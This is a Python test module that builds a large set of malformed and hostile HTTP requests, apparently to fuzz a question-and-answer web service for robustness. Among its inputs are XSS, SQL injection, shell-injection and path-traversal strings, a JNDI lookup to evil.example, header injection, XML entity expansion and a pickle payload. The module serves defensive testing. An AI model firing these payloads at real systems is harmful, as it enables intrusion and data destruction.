"""Requests that nobody means well with: each a few bytes to write down, and none like another."""

import json
from collections.abc import Iterator
from io import BytesIO
from typing import NamedTuple
from urllib.parse import quote, urlencode

JSON, FORM, PARTS = "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"
MIB = 1024 * 1024
LIMIT = 3000  # characters of the longest field: what is no longer is read to its end


class Request(NamedTuple):
    """One request as it arrives at the service. environ: what else of WSGI; a header's value is latin-1."""

    method: str
    path: str
    body: bytes = b""
    kind: str = ""
    environ: tuple[tuple[str, str], ...] = ()

    def send(self, client):
        more = {"wsgi.input": BytesIO(self.body)} | dict(self.environ)
        path, _, query = self.path.partition("?")
        return client.generic(self.method, path, self.body, self.kind, QUERY_STRING=query, **more)

    def __str__(self):
        sent = [(name, value[:60]) for name, value in self.environ if "Bearer" not in value]
        return f"{self.method} {self.path[:60]} {self.body[:40]!r} of {len(self.body)} {self.kind[:30]} {sent or ''}"


TEXTS = {
    "a NUL": "Hello\0there",
    "half a pair": "Hello \ud83d there",
    "the other half first": "\udc00\ud800",
    "backwards": "Ring \u202e999\u202c now, \u2066then\u2069 wait",
    "nothing wide": "\u200b\u200c\u200d\u2060\ufeff" * 600,
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "no characters": "\ufffe\uffff\U0010ffff",
    "brackets": "[" * 200_000,
    "links in links": "[a](" * 50_000,
    "stars": "*_" * 100_000,
    "backticks": "`" * 99_999 + "x",
    "quotes in quotes": ">" * 100_000,
    "lists in lists": "- " * 50_000,
    "entities": "&#x41;&amp;&lt;" * 20_000,
    "a script": "<script>alert(1)</script><svg onload=alert(1)>",
    "tags unclosed": "<a href='" * 30_000,
    "a template": "{{ request }}{% load x %}{{ 7|add:7 }}#{7*7}${7*7}<%= 7 %>",
    "a format": "%s%n%x%99999999d {0.__class__} {settings.SECRET_KEY}",
    "SQL": "'; DROP TABLE questions_question; -- \" OR 1=1 /*",
    "a search syntax": '" NEAR(a, 99) OR a* AND NOT ^ : {col} - "',
    "a shell": "$(reboot) `reboot` ; reboot | reboot && ../../../../etc/passwd",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "lines of a header": "en\r\nSet-Cookie: s=1\r\n\r\n<html>",
    "a line alone": "\n" * 150_000,
    "spaces": " " * 150_000 + "x",
    "a bomb of letters": "a" * 150_000 + "!",
    "an address that never ends": "a@" * 60_000,
    "dots": "a." * 60_000 + "@",
    "addresses": "http://" * 25_000,
    "a telephone that never ends": "0" * 150_000,
    "digits apart": "0 7-" * 40_000,
    "digits of elsewhere": "\u0660\u0661\u0662\uff11\u09e9\U0001d7d9" * 500,
    "postcodes": "SW1A 1A" * 20_000,
    "handles": "@a" * 60_000,
    "one word with marks": "e" + "\u0301" * 100_000,
    "letters that grow": "\ufdfa\u0130\u00df\ufb03" * 20_000,
    "pictures": "\U0001f469\U0001f3fd\u200d\U0001f680" * 8_000,
    "apostrophes": "don't'" * 20_000,
    "danger, again and again": "dont want to be here " * 6_000,
    "commas": "," * 150_000,
    "almost a megabyte": "x" * (MIB - 4096),
}
VALUES = (None, True, 7, -1, 0, 1.5, 2**31, 2**63, 10**400, 1e308, [], {}, [[]], {"a": {}}, ["x"] * 9_999)
BODIES = {
    "nothing": b"",
    "no JSON": b"nope",
    "half of it": b'{"text": "a',
    "deep lists": b"[" * 200_000,
    "deep objects": b'{"a":' * 100_000,
    "deep and closed": b"[" * 100_000 + b"]" * 100_000,
    "twice": b'{"text": "a", "text": "b", "age_band": "13-15"}',
    "many names": b"{" + b",".join(b'"f%d": 1' % n for n in range(60_000)) + b"}",
    "many entries": b'{"cards": [' + b"1," * 450_000 + b"1]}",
    "many lists": b'{"cards": [' + b"[],{}," * 150_000 + b"1]}",
    "as many as may be": b'{"cards": [' + b"1," * 1_990 + b"1]}",
    "one long name": b'{"%s": 1}' % (b"x" * 900_000),
    "a name that is none": b'{"\\u0000": 1, "": 2, "__proto__": 3, "\\ud800": 4}',
    "not a number": b'{"text": NaN}',
    "too large a number": b'{"text": 1e999}',
    "digits": b"9" * 900_000,
    "a number of digits": b'{"round": %s}' % (b"9" * 900_000),
    "a fraction of digits": b'{"round": 0.%s}' % (b"9" * 900_000),
    "backslashes": b'"\\' + b'\\"' * 400_000,
    "escapes": b'{"text": "%s"}' % (b"\\u0061" * 150_000),
    "a mark at the front": b"\xef\xbb\xbf{}",
    "UTF-16": '{"text": "a"}'.encode("utf-16"),
    "UTF-32": '{"text": "a"}'.encode("utf-32"),
    "half a character": b'{"text": "\xc3"}',
    "too long for a character": b'{"text": "\xc0\xaf\xe0\x80\xaf"}',
    "all bytes": bytes(range(256)) * 64,
    "a form": b"text=a&age_band=13-15",
    "XML": b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
    "a whole megabyte": b'"' + b"x" * (MIB - 2) + b'"',
    "a byte more": b'"' + b"x" * (MIB - 1) + b'"',
}
BROKEN_PARTS = {
    "no end": b'--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nhello',
    "no name": b"--b\r\nContent-Disposition: form-data\r\n\r\nhello\r\n--b--\r\n",
    "no boundary": b"hello",
    "only boundaries": b"--b\r\n" * 50_000,
    "too many": b"".join(b'--b\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n1\r\n' % n for n in range(900)),
    "a file": b'--b\r\nContent-Disposition: form-data; name="text"; filename="../\0/x"\r\n\r\nx\r\n--b--\r\n',
    "many files": b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n1\r\n' * 400 + b"--b--\r\n",
    "base64 that is none": b'--b\r\nContent-Disposition: form-data; name="text"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n!!!\r\n--b--\r\n",
    "a long header": b"--b\r\nContent-Disposition: form-data; name=" + b"x" * 100_000 + b"\r\n\r\n1\r\n--b--\r\n",
    "a name of another codec": b"--b\r\nContent-Disposition: form-data; name*=utf-7'x'%00text\r\n\r\n1\r\n--b--\r\n",
    "a large file": b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + b"x" * 1_000_000,
}
KINDS = (
    *("", "x", "/", ";", "text/plain", "text/html; charset=utf-7", f"{JSON}; charset=utf-16", f"{FORM}; charset=none"),
    *(f"{FORM}; charset*=utf-7''x", "multipart/form-data", "multipart/form-data; boundary=", "multipart/mixed"),
    *(f"multipart/form-data; boundary={'b' * 300}", "multipart/form-data; boundary=\xff", "a/b;" * 5_000, "\xff/\x00"),
)
LENGTHS = (
    "-1",
    "abc",
    "",
    "1e3",
    "0x10",
    "+5",
    " 7",
    "1_0",
    "\xb2",
    "0",
    "3",
    "99999",
    str(MIB),
    str(MIB + 1),
    "9" * 400,
)
HEADERS = {
    "HTTP_ACCEPT": ("*", "text/html", "a/b;q=x", "application/json;q=1e9", "," * 9_000, "a/b," * 9_000, "\xff\x00"),
    "HTTP_ACCEPT_LANGUAGE": ("nl;q=\xb2", "en-" * 3_000, "en," * 9_000, "x;q=9e9", "../../etc", "\x00", "nl\r\nX: y"),
    "HTTP_ACCEPT_ENCODING": ("gzip;q=x", "br," * 9_000),
    "HTTP_COOKIE": (
        *("s=%00", "s=" + "x" * 8_000, ";" * 9_000, "s", "=", 's="\\"', "l=../..", "l=\xff", "csrftoken=\x00"),
        *("messages=garbage:x; s=a", "sessionid=(dp1; s=()", "; ".join(f"c{n}={n}" for n in range(2_000))),
    ),
    "HTTP_HOST": (
        "",
        "evil.example",
        "localhost:99999",
        "localhost:x",
        "[::1",
        "a b",
        "localhost\x00",
        "x" * 9_000,
        "\xff",
    ),
    "HTTP_AUTHORIZATION": (
        "",
        "Bearer",
        "Bearer  ",
        "Basic Og==",
        "Bearer \xff",
        "Bearer ap_" + "x" * 9_000,
        "Bearer \x00",
    ),
    "HTTP_IF_MODIFIED_SINCE": ("never", "Mon, 99 Foo 99999 99:99:99 GMT", "Thu, 01 Jan 0000 00:00:00 GMT", "9" * 5_000),
    "HTTP_IF_NONE_MATCH": ("*", '"', 'W/"', '"x",' * 5_000),
    "HTTP_RANGE": ("bytes=0-0,-1", "bytes=" + "0-," * 5_000, "bytes=9" + "9" * 500 + "-"),
    "HTTP_REFERER": ("javascript:alert(1)", "http://[", "//evil.example", "x" * 9_000),
    "HTTP_ORIGIN": ("null", "http://[", "https://evil.example"),
    "HTTP_X_FORWARDED_FOR": ("x", "," * 9_000, "::ffff:1.2.3.4%eth0", "999.1.1.1"),
    "HTTP_X_FORWARDED_PROTO": ("https", "\x00"),
    "HTTP_X_HTTP_METHOD_OVERRIDE": ("DELETE",),
    "HTTP_SCRIPT_NAME": ("/x",),
    "HTTP_EXPECT": ("100-continue", "x"),
    "HTTP_TRANSFER_ENCODING": ("chunked", "identity, chunked"),
    "HTTP_IDEMPOTENCY_KEY": ("", " ", "\xff", "\x00", "x" * 256, "a\r\nb"),
    "HTTP_ASKPEER_RECEIPT": ("", "\x00", "\xff", "a " * 9_000, "x" * 9_000, "\xb2"),
    "REMOTE_ADDR": ("", "x", "unix:", "::1%lo", "\x00"),
}
ODD_ENDS = (
    *("%00", "%", "%%", "%zz", "%2e%2e/%2e%2e/", "..%2f..%2f", "%c0%af", "%ff%fe", "%ed%a0%80", "%u0041", "//", "/./"),
    *(
        "\\..\\",
        "%5c",
        "%0d%0aX:%20y",
        "%e2%80%ae",
        "%d9%a0",
        "é",
        "a" * 9_000,
        "a/" * 3_000,
        "%25" * 2_000,
        ";x=y",
        "?",
    ),
    *(
        "?" + "&" * 9_000,
        "?" + "a=b&" * 900,
        "?q[]=1&q[]=2",
        "?q=%00",
        "?q=%ff",
        "?q=1&q=2",
        "?%00=%00",
        "?" + "q=" * 900,
    ),
)
METHODS = (
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "HEAD",
    "PROPFIND",
    "BREW",
    "get",
    "G ET",
    "",
    "\xff",
)
API_GETS = ("topics/", "service/", "library/", "library/lunch/", "schema/", "docs/", "nothing/")
QUERIES = {
    "/library/": ("q", "topic", "cursor"),
    "/api/v1/library/": ("q", "topic", "cursor"),
    "/i18n/setlang/": ("next",),
}
PAGES = (
    *("/", "/ask/", "/ask/words/", "/ask/check/", "/my-question/", "/library/", "/library/lunch/", "/library/feed/"),
    *("/library/lunch/report/", "/i18n/setlang/", "/health/", "/accounts/login/", "/leave/", "/static/", "/api/v1/"),
)
# Where words are typed: what else the form holds, and the fields that are attacked.
FORMS = {
    "/ask/": ({"age_band": "13-15", "nation": "GB-ENG"}, ("age_band", "nation", "shown", "wants")),
    "/ask/words/": ({"text": "hello"}, ("text", "moment_1", "cards", "topic")),
    "/ask/check/": ({}, ("email",)),
    "/words/lonely/": ({}, ("words",)),
    "/my-question/": ({}, ("receipt", "wrote", "act")),
    "/my-question/take-down/": ({}, ("receipt",)),
    "/my-question/follow-up/": ({"text": "And now?"}, ("text",)),
    "/my-question/feedback/": ({"felt_heard": "yes"}, ("words", "felt_heard")),
    "/my-question/consent/": ({"choice": "yes"}, ("choice", "version")),
    "/my-question/report/": ({"words": "It is wrong."}, ("words",)),
    "/my-question/talk/": ({"text": "hello"}, ("text",)),
    "/my-question/erase/": ({}, ("told",)),
    "/i18n/setlang/": ({"language": "nl"}, ("language", "next")),
    "/accounts/login/": ({"login": "a@b.example", "password": "x"}, ("login", "password")),
}


def everything(valid: dict[str, tuple[dict, tuple[str, ...]]], key: str) -> Iterator[Request]:
    """Every hostile request. valid: {operation: (a body that it takes, the fields that are attacked)}."""
    bearer = (("HTTP_AUTHORIZATION", f"Bearer {key}"),)
    for path, (body, fields) in valid.items():
        yield from _bodies(f"/api/v1/{path}", body, fields, bearer)
    for path, (sent, fields) in FORMS.items():
        yield from _forms(path, sent, fields)
    for path, names in QUERIES.items():
        for text in TEXTS.values():
            for name in names:
                yield Request("GET", f"{path}?{_encoded({name: text[:LIMIT]})}", environ=bearer)
    for path in PAGES:
        yield from (Request("GET", path + end) for end in ODD_ENDS)
        yield from (Request(method, path, b"x", "x") for method in METHODS)
    for path in API_GETS:
        yield from (Request("GET", f"/api/v1/{path}{end}", environ=bearer) for end in ODD_ENDS)
    for path in (
        "/",
        "/my-question/",
        "/library/lunch/",
        "/api/v1/topics/",
        "/api/v1/questions/read/",
        "/accounts/login/",
    ):
        for name, values in HEADERS.items():
            yield from (Request("GET", path, environ=(*bearer, (name, value))) for value in values)
            yield from (Request("POST", path, b"{}", JSON, (*bearer, (name, value))) for value in values)


def _bodies(path: str, body: dict, fields: tuple[str, ...], bearer: tuple) -> Iterator[Request]:
    tried = [text for whole in TEXTS.values() for text in {whole, whole[:LIMIT]}]
    sent = [json.dumps(body | {field: value}).encode() for field in fields for value in (*tried, *VALUES)]
    yield from (Request("POST", path, found, JSON, bearer) for found in (*sent, *BODIES.values()))
    whole = json.dumps(body).encode()
    yield from (Request("POST", path, whole, kind, bearer) for kind in KINDS)
    yield from (Request("POST", path, whole, JSON, (*bearer, ("CONTENT_LENGTH", length))) for length in LENGTHS)
    yield from (Request(method, path, whole, JSON, bearer) for method in METHODS)


def _forms(path: str, sent: dict, fields: tuple[str, ...]) -> Iterator[Request]:
    tried = [text for whole in TEXTS.values() for text in {whole, whole[:LIMIT]}]
    found = [_encoded(sent | {field: text}).encode() for field in fields for text in tried]
    found += [b"&" * 99_999, b"=" * 99_999, b"a=1&" * 300, b"%", b"text=%ff%fe", b"text=%ed%a0%80", b"x" * (MIB + 1)]
    yield from (Request("POST", path, body, FORM) for body in found)
    yield from (Request("POST", path, body, PARTS) for body in BROKEN_PARTS.values())
    whole = _encoded(sent).encode()
    yield from (Request("POST", path, whole, kind) for kind in KINDS)
    yield from (Request("POST", path, whole, FORM, (("CONTENT_LENGTH", length),)) for length in LENGTHS)


def _encoded(fields: dict) -> str:
    return urlencode(fields, errors="surrogatepass", quote_via=quote)
